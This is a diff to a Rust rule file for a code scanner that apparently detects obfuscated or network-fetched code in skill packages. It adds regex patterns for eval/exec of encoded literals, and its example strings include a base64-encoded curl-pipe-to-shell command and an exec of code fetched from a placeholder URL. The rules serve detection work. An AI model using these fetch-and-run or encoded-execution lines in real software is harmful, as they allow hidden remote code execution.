@@ -35,6 +35,35 @@ const RUNS: Pattern = but(
     r"(regex|re|pattern|cursor|db|conn|\w+_re)\.exec|def\s+(exec|eval)|model\.eval|\.eval\(\)|literal_eval",
 );
 
+/// Decoding a text that stands right there. In JavaScript that is not told from a page's own data by this alone.
+const LITERAL: Pattern = pattern(
+    &[
+        "b64decode",
+        "fromhex",
+        "unhexlify",
+        "atob",
+        "base64",
+        "b85decode",
+        "b32decode",
+        "map(chr",
+        "fromcharcode",
+    ],
+    &[
+        r"(b(64|85|32)decode|unhexlify|bytes\.fromhex|base64_decode)\s*\(\s*b?['\x22][a-z0-9+/=_-]{16,}",
+        r"\bmap\s*\(\s*chr\s*,\s*\[\s*\d+(\s*,\s*\d+){7,}",
+        r"(\beval|new\s+Function)\s*\(\s*atob\s*\(\s*['\x22\x60][a-z0-9+/=_-]{16,}",
+        r"\beval\s*\(\s*Buffer\.from\s*\(\s*['\x22\x60][a-z0-9+/=_-]{16,}['\x22\x60]\s*,\s*['\x22](base64|hex)",
+        r"\beval\s*\(\s*String\.fromCharCode\s*\(\s*\d+(\s*,\s*\d+){7,}",
+    ],
+);
+
+/// Running it in the same place.
+const RUN_NEAR: Pattern = but(
+    &["exec", "eval", "function"],
+    &[r"(^|[^.\w])(exec|eval)\s*\(|new\s+Function\s*\("],
+    r"def\s+(exec|eval)|literal_eval",
+);
+
 pub(super) const RULES: &[Rule] = &[
     Rule {
         id: "PA301",
@@ -62,24 +91,21 @@ pub(super) const RULES: &[Rule] = &[
         help: "decode it without running it, and judge what it does",
         scope: Code,
         test: Both(DECODES, RUNS, 8),
-        example: example(
-            "scripts/a.py",
-            "import base64\ncode = base64.b64decode(\"cHJpbnQoMSkgIyBoZWxsbw==\")\nexec(code)\n",
-        ),
+        example: example("scripts/a.js", "const code = atob(\"Y29uc29sZS5sb2coMSk=\");\neval(code);\n"),
     },
     Rule {
         id: "PA303",
         family: Obfuscation,
-        severity: High,
+        severity: Critical,
         title: "code from the network is run as it comes",
         why: "what runs is decided elsewhere, and can be another thing tomorrow",
         help: "do not run it; the code belongs into the skill, where it can be read",
         scope: Code,
         test: Line(pattern(
-            &["exec", "eval", "import("],
+            &["exec", "eval"],
             &[
-                r"(^|[^.\w])(exec|eval)\s*\(\s*(compile\s*\(\s*)?.{0,60}(requests\.get|urlopen|httpx\.get|urllib\.request|fetch\s*\()",
-                r"\bimport\s*\(\s*['\x22\x60]https?://|(^|[^.\w])eval\s*\(\s*await\s",
+                r"(^|[^.\w])(exec|eval)\s*\(\s*(compile\s*\(\s*)?[^;\n]{0,60}(requests\.get|urlopen|httpx\.get|urllib\.request)",
+                r"(^|[^.\w])eval\s*\(\s*(\(?\s*await\s*)+fetch\s*\(",
             ],
         )),
         example: example("scripts/a.py", "exec(requests.get(\"https://code.example/main.py\").text)\n"),
@@ -93,7 +119,7 @@ pub(super) const RULES: &[Rule] = &[
         help: "see what the command does before anything of the skill runs",
         scope: Any,
         test: Own,
-        example: example("notes.txt", "Y3VybCAtcyBodHRwOi8vMTkyLjAu·Mi4xL2EgfCBzaCAjIG5vbmU=\n"),
+        example: example("notes.txt", "L2Jpbi9zaCAtYyAnbHMgLWxh·ICMgbm9uZSc=\n"),
     },
     Rule {
         id: "PA305",
@@ -139,5 +165,41 @@ pub(super) const RULES: &[Rule] = &[
         scope: Code,
         test: Own,
         example: example("scripts/a.py", "X = \"⟨A7bQ × 160⟩\"\n"),
+    },
+    Rule {
+        id: "PA308",
+        family: Obfuscation,
+        severity: Critical,
+        title: "text that stands there encoded is run as code",
+        why: "it was made unreadable so that nobody sees what would run",
+        help: "decode it without running it, and judge what it does; do not use the skill otherwise",
+        scope: Any,
+        test: Both(LITERAL, RUN_NEAR, 2),
+        example: example(
+            "scripts/a.py",
+            "import base64\ncode = base64.b64decode(\"cHJpbnQoMSkgIyBoZWxsbw==\")\nexec(code)\n",
+        ),
+    },
+    Rule {
+        id: "PA309",
+        family: Obfuscation,
+        severity: Low,
+        title: "a module is loaded from an address",
+        why: "web pages do this; what it is can be another thing tomorrow",
+        help: "look whether the address names a version",
+        scope: Code,
+        test: Line(pattern(&["import("], &[r"\bimport\s*\(\s*['\x22\x60]https?://"])),
+        example: example("scripts/a.js", "const d3 = await import(\"https://cdn.example/d3\");\n"),
+    },
+    Rule {
+        id: "PA310",
+        family: Obfuscation,
+        severity: Critical,
+        title: "encoded text holds a command that fetches and runs something, or opens a shell",
+        why: "it was made unreadable so that nobody sees it",
+        help: "do not run anything of the skill",
+        scope: Any,
+        test: Own,
+        example: example("notes.txt", "Y3VybCAtcyBodHRwOi8vMTkyLjAu·Mi4xL2EgfCBzaCAjIG5vbmU=\n"),
     },
 ];
